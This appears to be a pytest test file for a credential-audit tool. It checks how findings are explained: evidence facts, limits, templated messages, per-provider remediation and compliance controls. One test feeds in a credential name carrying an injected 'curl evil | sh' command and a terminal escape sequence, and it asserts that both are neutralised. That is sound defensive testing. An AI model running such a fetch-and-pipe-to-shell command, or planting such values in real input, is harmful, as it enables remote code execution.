"""A finding explains itself: facts, limits, their time, and what mends it."""

import gc
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest

from auditor.model import (
    Certainty,
    Credential,
    Evidence,
    ExpiresState,
    LastUsedState,
    LastUsedSubject,
    PermissionsSubject,
    Principal,
    Privilege,
)
from auditor.policy import Explanation, PolicySet, PolicySettings, load
from auditor.policy.explain import Explainer

Write = Callable[..., Path]
Build = Callable[..., Credential]
NOW = datetime(2026, 3, 1, 3, 0, tzinfo=UTC)
DAY = timedelta(days=1)


@pytest.fixture
def explained(write_policy: Write, credential: Build) -> Callable[..., Explanation]:
    """Explain one policy, some of its blocks changed, about a credential with some facts."""

    def build(blocks: dict[str, str] | None = None, **facts: Any) -> Explanation:
        folder = write_policy(**(blocks or {})).parent
        active = load(PolicySettings(), builtin=folder, directory=folder)
        return active.explain("resting", credential(**facts), NOW)

    return build


def facts_of(explanation: Explanation) -> dict[str, tuple[Any, Any]]:
    return {one.fact: (one.observed, one.limit) for one in explanation.evidence}


def test_the_evidence_holds_facts_limits_what_they_rest_on_and_their_time(
    explained: Callable[..., Explanation],
) -> None:
    explanation = explained(last_used_at=NOW - 100 * DAY)
    assert explanation.title == "Not used for 45 days"
    assert explanation.message == "key-1 rests since 21 Nov 2025, 03:00 UTC."
    assert explanation.rationale == "Nobody watches it."
    assert explanation.evidence == (
        Evidence("status", "active"),
        Evidence("idle_for", "P100D", "P45D"),
        Evidence("last_used_state", "used"),
        Evidence("last_used_at", "2025-11-21T03:00:00Z"),
        Evidence("data_as_of", "2026-03-01T03:00:00Z"),
    )
    msgspec.json.encode(explanation)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"last_used_state": LastUsedState.NEVER},
         {"idle_for": ("P20D", "P45D"), "created_at": ("2026-02-09T03:00:00Z", None)}),
        ({"last_used_state": LastUsedState.NOT_IN_WINDOW, "created_at": None,
          "last_used_window_start": NOW - 60 * DAY},
         {"idle_for": ("P60D", "P45D"), "last_used_state": ("not_in_window", None),
          "last_used_window_start": ("2025-12-31T03:00:00Z", None)}),
        ({"last_used_precision": timedelta(hours=4),
          "last_used_subject": LastUsedSubject.PRINCIPAL},
         {"last_used_precision": ("PT14400S", None), "last_used_subject": ("principal", None)}),
        ({"last_used_state": LastUsedState.UNKNOWN}, {"idle_for": (None, "P45D")}),
    ],
)  # fmt: skip
def test_idleness_rests_on_what_the_provider_says(
    explained: Callable[..., Explanation],
    changes: dict[str, Any],
    expected: dict[str, tuple[Any, Any]],
) -> None:
    found = facts_of(explained(**changes))
    assert {name: found[name] for name in expected} == expected


@pytest.mark.parametrize(
    ("when", "changes", "expected"),
    [
        ("credential.age >= duration('1d')", {},
         {"age": ("P20D", "P1D"), "created_at": ("2026-02-09T03:00:00Z", None)}),
        ("credential.age >= duration('1d')", {"rotated_at": NOW - 2 * DAY},
         {"age": ("P2D", "P1D"), "rotated_at": ("2026-02-27T03:00:00Z", None)}),
        ("credential.expires_in < duration('1d')", {"expires_at": NOW + DAY},
         {"expires_in": ("P1D", "P1D"), "expires_at": ("2026-03-02T03:00:00Z", None)}),
        ("credential.expires_in < duration('1d')", {"expires_state": ExpiresState.NEVER},
         {"expires_in": ("unlimited", "P1D"), "expires_state": ("never", None)}),
        ("credential.lifetime > duration('1d')", {"expires_at": NOW + DAY},
         {"lifetime": ("P21D", "P1D"), "created_at": ("2026-02-09T03:00:00Z", None),
          "expires_at": ("2026-03-02T03:00:00Z", None)}),
        ("credential.owner == null", {}, {"owner": ("none", None)}),
        ("credential.key_bits < 2048", {}, {"key_bits": (None, 2048)}),
        ("credential.key_bits < 2048", {"key_bits": 1024}, {"key_bits": (1024, 2048)}),
        ("credential.name in ['x']", {}, {"name": ("key-1", None)}),
        ("credential.privilege == 'admin'",
         {"provider": "aws", "permissions": {"*": {"*": True}}, "privilege": Privilege.ADMIN},
         {"privilege": ("admin", None), "permissions": (["*:*"], None)}),
        ("credential.privilege == 'admin'", {"privilege": Privilege.ADMIN, "permissions": None},
         {"privilege": ("admin", None), "permissions": (None, None)}),
        ("credential.privilege == 'admin'", {"privilege": Privilege.ADMIN, "permissions": {}},
         {"privilege": ("admin", None), "permissions": ([], None)}),
        ("granted(credential.permissions, 'a', 'b')",
         {"permissions": {"a": {"b": True, "c": False}},
          "permissions_certainty": Certainty.INFERRED},
         {"permissions": (["a:b"], None), "permissions_certainty": ("inferred", None)}),
        ("granted_count(credential.permissions) > 1",
         {"permissions": {"a": {f"p{number:02}": True for number in range(25)}}},
         {"permissions": ([f"a:p{number:02}" for number in range(20)] + ["and 5 more"], None)}),
        ("credential.data_as_of < now", {}, {"data_as_of": ("2026-03-01T03:00:00Z",
                                                              "2026-03-01T03:00:00Z")}),
        ("size(credential.privilege_path) > 0", {"privilege_path": ("a", "b")},
         {"privilege_path": (["a", "b"], None)}),
        ("size(credential.tags) > 0", {"tags": {"a": "b"}}, {"tags": ({"a": "b"}, None)}),
    ],
)  # fmt: skip
def test_every_kind_of_fact_is_shown(
    explained: Callable[..., Explanation],
    when: str,
    changes: dict[str, Any],
    expected: dict[str, tuple[Any, Any]],
) -> None:
    explanation = explained({"when": when}, **changes)
    found = facts_of(explanation)
    assert {name: found[name] for name in expected} == expected
    assert len(found) == len(explanation.evidence)
    msgspec.json.encode(explanation)


MESSAGE = (
    "'{{ credential.owner }}, {{ credential.created_at }}, {{ credential.permissions }}, "
    "{{ credential.restrictions }}, {{ credential.privilege }}, {{ credential.expires_in }}, "
    "{{ credential.last_used_state }}, {{ credential.provider_id }}, {{parameters.idle_for}}, "
    "{{ credential.tags }}, {{ credential.principal.is_root }}, {{ credential.idle_for }}, "
    "{{ credential.key_bits }}'"
)


def test_facts_are_said_in_words(explained: Callable[..., Explanation]) -> None:
    message = explained(
        {"message": MESSAGE},
        created_at=None,
        permissions={f"r{number:02}": {"x": True} for number in range(12)},
        restrictions={"ip": "10.0.0.1"},
        privilege=Privilege.ADMIN,
        permissions_subject=PermissionsSubject.CREDENTIAL,
        last_used_state=LastUsedState.NOT_IN_WINDOW,
        last_used_window_start=NOW - 60 * DAY,
        principal=Principal(id="p", name="p", is_root=True),
        key_bits=2048,
    ).message
    named = ", ".join(f"r{number:02}:x" for number in range(10))
    assert message == (
        f"none, unknown, {named} and 2 more, ip: 10.0.0.1, admin, unlimited, "
        "not in the observed window, key-1, 45 days, none, yes, 60 days, 2,048"
    )


def test_a_map_that_grants_nothing_grants_none(explained: Callable[..., Explanation]) -> None:
    blocks = {"message": "'{{ credential.permissions }}'"}
    assert explained(blocks, permissions={"a": {"b": False}}).message == "none"


def test_a_hostile_name_cannot_break_out_of_a_line_or_a_command(
    explained: Callable[..., Explanation],
) -> None:
    remediation = (
        "{summary: 'Delete {{ credential.name }}', commands: ['rm {{ credential.name }} "
        "{{ credential.owner }} {{ credential.created_at }} {{ credential.idle_for }}'], "
        "providers: {aws: {commands: ['aws {{ credential.name }}'], url: 'https://a.example'}}}"
    )
    name = "x'; curl evil | sh\n\x1b[31m{{ credential.uid }}"
    explanation = explained({"remediation": remediation}, name=name)
    (command,) = explanation.remediation.commands
    assert command == (
        "rm 'x'\"'\"'; curl evil | sh??[31m{{ credential.uid }}' '<owner>' "
        "2026-02-09T03:00:00Z '1 day, 0:00:00'"
    )
    assert "\n" not in explanation.remediation.summary
    assert "\x1b" not in explanation.message


def test_a_provider_has_its_own_remedy_and_inherits_the_summary(
    explained: Callable[..., Explanation],
) -> None:
    remediation = (
        "{summary: Delete it., commands: [general], url: 'https://g.example', providers: "
        "{aws: {commands: [special], url: 'https://a.example'}}}"
    )
    general = explained({"remediation": remediation}).remediation
    assert (general.commands, general.url) == (("general",), "https://g.example")
    special = explained({"remediation": remediation}, provider="aws").remediation
    assert (special.summary, special.commands) == ("Delete it.", ("special",))
    assert special.url == "https://a.example"


def test_controls_are_those_that_speak_about_the_provider(
    explained: Callable[..., Explanation],
) -> None:
    controls = '{cis-aws-5.0: ["1.11"], owasp-nhi-2025: [NHI1], house-rules: ["7"]}'
    assert explained({"controls": controls}).controls == {
        "owasp-nhi-2025": ("NHI1",),
        "house-rules": ("7",),
    }
    assert set(explained({"controls": controls}, provider="aws").controls) == {
        "cis-aws-5.0",
        "owasp-nhi-2025",
        "house-rules",
    }


def test_findings_of_one_kind_share_what_no_credential_changes(
    write_policy: Write, credential: Build
) -> None:
    folder = write_policy(controls='{owasp-nhi-2025: ["NHI1"]}').parent
    active = load(PolicySettings(), builtin=folder, directory=folder)
    first = active.explain("resting", credential(name="a"), NOW)
    second = active.explain("resting", credential(name="b"), NOW)
    assert first.message != second.message
    for name in ("title", "rationale", "remediation", "controls"):
        assert getattr(first, name) is getattr(second, name)


WHEN = (
    "credential.idle_for >= duration('1d') && credential.age >= duration('1d') "
    "&& credential.expires_in < duration('1d') && credential.lifetime > duration('1d') "
    "&& credential.privilege == 'admin'"
)
SHAPES: list[dict[str, Any]] = [
    {"rotated_at": NOW - DAY, "expires_at": NOW + DAY},
    {"last_used_state": LastUsedState.NEVER},
    {"last_used_state": LastUsedState.NOT_IN_WINDOW, "last_used_window_start": NOW - DAY},
    {"last_used_precision": DAY},
    {"last_used_subject": LastUsedSubject.PRINCIPAL},
    {"permissions_certainty": Certainty.INFERRED},
    {},
]


def test_what_is_shown_of_one_credential_does_not_depend_on_those_before(
    write_policy: Write, credential: Build
) -> None:
    """Which facts are shown is remembered by the shape of a credential, for each shape."""
    folder = write_policy(when=WHEN).parent
    subjects = [credential(**facts) for facts in SHAPES]

    def fresh() -> PolicySet:
        return load(PolicySettings(), builtin=folder, directory=folder)

    active = fresh()
    together = [active.explain("resting", one, NOW).evidence for one in subjects]
    assert together == [fresh().explain("resting", one, NOW).evidence for one in subjects]
    shown = [tuple(one.fact for one in evidence) for evidence in together]
    assert len(set(shown)) == len(SHAPES)


def test_explainers_of_types_without_number_are_let_go(
    write_policy: Write, credential: Build
) -> None:
    """An export can name a type of its own for each credential."""
    folder = write_policy().parent
    active = load(PolicySettings(), builtin=folder, directory=folder)
    before = _explainers()
    expected = active.explain("resting", credential(type="0"), NOW)
    for number in range(1_500):
        assert active.explain("resting", credential(type=f"{number}"), NOW) == expected
    assert 0 < _explainers() - before <= 1_024


def _explainers() -> int:
    gc.collect()
    return sum(type(one) is Explainer for one in gc.get_objects())
